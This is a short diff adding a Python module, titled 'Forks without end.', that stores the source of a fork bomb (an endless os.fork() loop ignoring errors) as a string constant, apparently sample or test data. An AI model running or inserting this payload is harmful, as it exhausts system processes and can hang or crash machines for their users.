@@ -1,0 +1,10 @@
+"""Forks without end."""
+
+SQUARE = r"""
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""
